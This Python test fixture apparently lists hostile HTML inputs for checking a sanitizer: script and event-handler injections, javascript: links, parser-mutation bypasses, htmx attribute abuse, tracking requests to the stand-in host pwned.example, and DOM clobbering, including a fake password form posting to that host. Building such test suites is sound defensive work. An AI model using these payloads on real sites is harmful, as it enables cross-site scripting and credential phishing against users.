"""Hostile HTML of our own: every vector tries to run `pwned()`, to ask `/pwned` of our server, or to ask a stranger's.

By kind, because a reader should see what each is for. `{n}` becomes the vector's number.
"""

from __future__ import annotations

STRANGER = "https://pwned.example"

SCRIPTS = [
    "<script>pwned({n})</script>",
    "<script src=https://pwned.example/{n}.js></script>",
    "<script type=module>import '/pwned/{n}'</script>",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<ScRiPt/x>pwned({n})</sCrIpT >",
    "<script\x0cdefer>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    "<img/src='x'onerror=pwned({n})//",
    "<image src=x onerror=pwned({n})>",
    "<body onload=pwned({n}) onpageshow=pwned({n})>",
    "<div onmouseover=pwned({n}) onclick=pwned({n}) onfocus=pwned({n}) tabindex=0>koske tähän</div>",
    "<input autofocus onfocus=pwned({n})>",
    "<details open ontoggle=pwned({n})><summary>auki</summary>x</details>",
    "<video autoplay onloadstart=pwned({n})><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})></audio>",
    "<marquee onstart=pwned({n})>liikkuu</marquee>",
    "<p onanimationstart=pwned({n}) onbeforecopy=pwned({n}) onpointerenter=pwned({n})>x</p>",
    "<svg onload=pwned({n})></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:pwned({n})><text y=20>paina</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned({n})</script></svg>#x\"></svg>",
    "<svg><foreignObject><iframe onload=pwned({n})></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<iframe src=javascript:parent.pwned({n})></iframe>",
    "<object data=javascript:pwned({n})></object>",
    "<embed src=javascript:pwned({n})>",
    "<math href=javascript:pwned({n})>x</math>",
]

LINKS = [
    "<a href=javascript:pwned({n})>linkki</a>",
    "<a href='jav&#x09;ascript:pwned({n})'>linkki</a>",
    "<a href='&#1;javascript:pwned({n})'>linkki</a>",
    "<a href='java\nscript:pwned({n})'>linkki</a>",
    "<a href='JAVASCRIPT&colon;pwned({n})'>linkki</a>",
    "<a href='data:text/html,<script>opener.pwned({n})</script>'>linkki</a>",
    "<a href=vbscript:pwned({n})>linkki</a>",
    "<a href='blob:https://localhost/pwned'>linkki</a>",
    "<a href='/sign-out/pwned'>linkki</a>",
    "<map name=m><area shape=default href=javascript:pwned({n})></map><img usemap=#m width=50 height=50>",
    "<form action=javascript:pwned({n})><button>lähetä</button></form>",
    "<button formaction=javascript:pwned({n})>paina</button>",
]

MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned({n})&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned({n})>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned({n})>'>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=pwned({n})>'>",
    "<svg><desc><noembed><img title='</noembed><img src=x onerror=pwned({n})>'></desc></svg>",
    "<table><caption><svg><title><table><style><img title='</style><img src=x onerror=pwned({n})>'>",
    "<select><template><style><!--</style><a title='--></style><img src=x onerror=pwned({n})>'>",
    "<textarea><p title='</textarea><img src=x onerror=pwned({n})>'>",
    "<title><p title='</title><img src=x onerror=pwned({n})>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwned({n})>'></xmp>",
    "<!--><img src=x onerror=pwned({n})>-->",
    "<!--a--!><img src=x onerror=pwned({n})>",
    "<![CDATA[><img src=x onerror=pwned({n})>]]>",
    "<?x ><img src=x onerror=pwned({n})>?>",
    "<template shadowrootmode=open><img src=x onerror=pwned({n})></template>",
    "</template></tiski-message><img src=x onerror=pwned({n})>",
    "</div></article></li></ol><script>pwned({n})</script>",
    "<p title='&quot;><img src=x onerror=pwned({n})>'>otsikko</p>",
    "<img alt='&lt;img src=x onerror=pwned({n})&gt;'>&lt;img src=x onerror=pwned({n})&gt;",
    "<a title='&#10;<script>pwned({n})</script>' href='https://ok.example/'>linkki</a>",
]

HTMX = [
    "<div hx-get=/pwned/{n} hx-trigger=load>x</div>",
    "<div data-hx-get=/pwned/{n} data-hx-trigger=load>x</div>",
    "<div hx-post=/pwned/{n} hx-trigger='every 100ms' hx-target=body>x</div>",
    "<a hx-boost=true href=/pwned/{n} hx-trigger=revealed>linkki</a>",
    "<div hx-on::load='pwned({n})' hx-on:click='pwned({n})'>x</div>",
    "<div data-hx-on--after-init='pwned({n})'>x</div>",
    "<div hx-vals='js:{{x: pwned({n})}}' hx-get=/pwned/{n} hx-trigger='load[pwned({n})]'>x</div>",
    "<hx-partial hx-target=body><img src=x onerror=pwned({n})></hx-partial>",
    "<div hx-swap-oob='true' id=pane>x</div>",
    "<div hx-ext=sse sse-connect=/pwned/{n}>x</div>",
    "<tiski-news src=/pwned/{n}></tiski-news><tiski-composer data-url=/pwned/{n}></tiski-composer>",
]

REQUESTS = [
    "<style>@import url(https://pwned.example/{n}.css); * {{ background: url(/pwned/{n}) }}</style>",
    "<link rel=stylesheet href=https://pwned.example/{n}.css>",
    "<link rel=prefetch href=https://pwned.example/{n}><link rel=preconnect href=https://pwned.example>",
    "<link rel=dns-prefetch href=//pwned.example><link rel=icon href=/pwned/{n}>",
    "<div style='background: url(https://pwned.example/{n}); position: fixed; inset: 0'>x</div>",
    "<table background=https://pwned.example/{n}><tr><td background=/pwned/{n}>x</td></tr></table>",
    "<img src=https://pwned.example/{n}.gif width=1 height=1>",
    "<img srcset='https://pwned.example/{n} 1x, /pwned/{n} 2x'>",
    "<img src=//pwned.example/{n}>",
    "<img src=/pwned/{n}>",
    "<img src='cid:../../pwned/{n}'><img src='CID:https://pwned.example/{n}'>",
    "<picture><source srcset=https://pwned.example/{n}><img src=/pwned/{n}></picture>",
    "<video src=https://pwned.example/{n} poster=/pwned/{n} autoplay></video>",
    "<input type=image src=https://pwned.example/{n}>",
    "<object data=https://pwned.example/{n}></object><embed src=/pwned/{n}>",
    "<iframe src=https://pwned.example/{n}></iframe><frameset><frame src=/pwned/{n}></frameset>",
    "<a ping=https://pwned.example/{n} href=https://ok.example/>linkki</a>",
    "<q cite=https://pwned.example/{n}>x</q><blockquote cite=/pwned/{n}>x</blockquote>",
    "<base href=https://pwned.example/><img src=pwned/{n}>",
    "<meta http-equiv=refresh content='0; url=https://pwned.example/{n}'>",
    "<svg><image href=https://pwned.example/{n} /></svg>",
    "<body background=https://pwned.example/{n}>",
]

CLOBBERING = [
    "<form id=htmx name=htmx><input name=config></form>",
    "<img id=pane name=toasts><a id=document name=cookie>x</a>",
    "<form action=https://pwned.example/{n}><input type=password autofocus><button>Kirjaudu</button></form>",
    "<dialog open id=dialog>Istunto päättyi</dialog>",
    "<div style='position:fixed;inset:0;z-index:99999' class='toast bubble-warning' popover=manual>peitto</div>",
]

VECTORS = [
    vector.format(n=number)
    for number, vector in enumerate([*SCRIPTS, *LINKS, *MUTATIONS, *HTMX, *REQUESTS, *CLOBBERING])
]
